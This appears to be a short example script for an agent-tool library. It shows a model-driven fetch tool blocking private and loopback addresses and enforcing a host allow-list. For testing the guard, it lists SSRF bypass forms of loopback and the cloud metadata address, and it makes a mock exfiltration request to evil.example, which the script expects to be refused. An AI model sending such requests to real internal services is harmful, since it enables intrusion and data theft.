"""A tool that fetches what a model names, and reaches the public internet only, or some hosts of it only."""

import handrail as hr
from handrail.testing.loopback import Answer, Loopback


def inside(request: object) -> Answer:
    """Answer as a service behind the firewall does, which trusts whoever reaches it."""
    return Answer(json={"role": "admin"})


with Loopback(inside) as service:
    client = hr.http_client(hr.Egress(ports=[80, 443, service.port]), timeout=5, follow_redirects=True)

    @hr.tool(effect="read", timeout_s=10)
    def fetch(url: str) -> str:
        """Fetch a page."""
        return client.get(url).text

    with client, hr.SyncRuntime([fetch]) as runtime:
        for host in ("127.0.0.1", "2130706433", "[::ffff:127.0.0.1]", "localhost", "169.254.169.254"):
            result = runtime.call("fetch", {"url": f"http://{host}:{service.port}/"})
            print(host, result.failure.code, result.failure.message)
    print("requests that came through:", len(service.asked))

    # Some hosts only. `private` and `ports` are exceptions that the program makes, and a call never.
    allow = hr.Egress(hosts=["*.shop.example"], private=["127.0.0.1"], ports=[service.port])
    with hr.http_client(allow, resolve=lambda host, port: ["127.0.0.1"]) as client:
        print(client.get(f"http://api.shop.example:{service.port}/").json())
        try:
            client.get(f"http://evil.example:{service.port}/?all=that-the-model-knows")
        except hr.ToolError as error:
            print(error.failure.message)
